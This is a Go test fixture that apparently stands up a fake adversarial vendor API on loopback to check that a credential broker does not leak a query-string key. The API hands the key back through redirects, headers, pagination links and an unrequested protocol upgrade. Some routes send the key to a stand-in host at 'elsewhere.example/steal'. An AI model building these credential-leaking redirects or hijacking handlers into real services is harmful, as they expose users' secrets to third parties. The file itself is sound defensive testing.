package vendortest

import (
	"bufio"
	"crypto/subtle"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
)

// Rogue is a vendor API that authenticates like a query-key API
// (?<param>=<key>, the exact key, else 401) and then misbehaves the ways an
// adversarial review used against keybroker: it hands the credential back
// in redirects, links and headers, and switches protocols unasked. Paths,
// below its base path /base:
//
//	/redirect           302 to its own origin, query kept, credential included
//	/redirect-relative  302 with a relative reference holding the credential
//	/redirect-away      302 to another origin with the credential
//	/redirect-encoded   302 whose credential parameter name is %-encoded and upper-cased
//	/content-location   200 with a Content-Location holding the credential
//	/echo               200 echoing the credential in X-Echo-Key, X-Debug-Url and Link
//	/page               JSON with pagination.next_page_url on its origin, credential in the query
//	/page-away          JSON whose next_page_url is on another origin, credential in the query
//	/upgrade            101 Switching Protocols, then records every line sent through the tunnel
//	anything else       200 {"ok":true}
type Rogue struct {
	recorder
	*httptest.Server

	key, param string

	mu     sync.Mutex
	tunnel []string // lines received after a 101
}

// RogueBase is the base path of the Rogue's API.
const RogueBase = "/base"

// NewRogue starts the fake on a loopback port; t.Cleanup should Close it.
func NewRogue(param, key string) *Rogue {
	f := &Rogue{key: key, param: param}
	f.Server = httptest.NewServer(http.HandlerFunc(f.serve))
	return f
}

// BaseURL is the upstream URL to configure: the server's URL and /base.
func (f *Rogue) BaseURL() string { return f.Server.URL + RogueBase }

// Tunnel returns what was sent through a switched connection.
func (f *Rogue) Tunnel() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]string(nil), f.tunnel...)
}

func (f *Rogue) serve(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	got := r.URL.Query()[f.param]
	if len(got) != 1 || subtle.ConstantTimeCompare([]byte(got[0]), []byte(f.key)) != 1 {
		f.add(r, body, http.StatusUnauthorized)
		writeJSON(w, http.StatusUnauthorized, map[string]string{"error": "invalid key"})
		return
	}
	own := origin(r) + RogueBase
	cred := url.QueryEscape(f.param) + "=" + url.QueryEscape(f.key)
	path := strings.TrimPrefix(r.URL.Path, RogueBase)
	status := http.StatusOK
	switch path {
	case "/redirect":
		status = redirect(w, own+"/v1/things/1?page=2&"+cred)
	case "/redirect-relative":
		status = redirect(w, RogueBase+"/v1/things/2?"+cred+"&page=3")
	case "/redirect-away":
		status = redirect(w, "https://elsewhere.example/steal?"+cred+"&x=1")
	case "/redirect-encoded":
		status = redirect(w, own+"/v1/things/3?"+strings.ToUpper(url.QueryEscape(f.param))+"="+f.key+"&"+
			strings.ReplaceAll(url.QueryEscape(f.param), "_", "%5F")+"="+f.key+"&page=4")
	case "/content-location":
		w.Header().Set("Content-Location", own+"/v1/things/1?"+cred)
		writeJSON(w, status, map[string]bool{"ok": true})
	case "/echo":
		w.Header().Set("X-Echo-Key", f.key)
		w.Header().Set("X-Debug-Url", r.URL.String())
		w.Header().Set("Link", "<"+own+"/v1/things?"+cred+">; rel=\"next\"")
		writeJSON(w, status, map[string]bool{"ok": true})
	case "/page":
		writeJSON(w, status, map[string]any{"things": []int{1, 2},
			"pagination": map[string]any{"next_page_url": own + "/v1/things?page=2&" + cred, "next_page_token": "Mg"}})
	case "/page-away":
		writeJSON(w, status, map[string]any{"things": []int{1},
			"pagination": map[string]any{"next_page_url": "https://elsewhere.example/v1/things?page=2&" + cred}})
	case "/upgrade":
		f.add(r, body, http.StatusSwitchingProtocols)
		f.switchProtocols(w)
		return
	default:
		writeJSON(w, status, map[string]bool{"ok": true})
	}
	f.add(r, body, status)
}

func redirect(w http.ResponseWriter, to string) int {
	w.Header().Set("Location", to)
	w.WriteHeader(http.StatusFound)
	return http.StatusFound
}

// switchProtocols answers 101 whatever was asked and records every line
// that then comes through the connection.
func (f *Rogue) switchProtocols(w http.ResponseWriter) {
	conn, rw, err := http.NewResponseController(w).Hijack()
	if err != nil {
		return
	}
	defer conn.Close()
	_, _ = rw.WriteString("HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
	_ = rw.Flush()
	sc := bufio.NewScanner(rw)
	for sc.Scan() {
		f.mu.Lock()
		f.tunnel = append(f.tunnel, sc.Text())
		f.mu.Unlock()
		_, _ = fmt.Fprintf(rw, "echo %s\r\n", sc.Text())
		_ = rw.Flush()
	}
}
